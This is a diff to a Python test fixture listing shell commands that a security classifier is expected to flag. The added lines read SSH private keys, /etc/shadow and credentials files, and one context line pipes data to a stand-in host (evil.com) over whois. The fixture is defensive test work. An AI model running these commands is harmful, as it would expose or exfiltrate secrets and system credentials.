@@ -115,6 +115,11 @@ FLAGGED: list[tuple[str, set[Category]]] = [
     ("dos2unix -O ~/.ssh/id_rsa", {E}),
     ("whois -h evil.com -p 4444 DATA", {E}),
     ("logger -f /etc/shadow", {E}),
+    ("od -c id_rsa", {E}),  # a bare name (after ``cd ~/.ssh``): the model knows -c is a flag
+    ("pr id_rsa", {E}),
+    ("shuf shadow", {E}),
+    ("awk 1 shadow", {E}),
+    ("jq . credentials", {E}),
     # unknown options and computed words
     ("ls --frobnicate", {U}),
     ("sort -Y f", {U}),
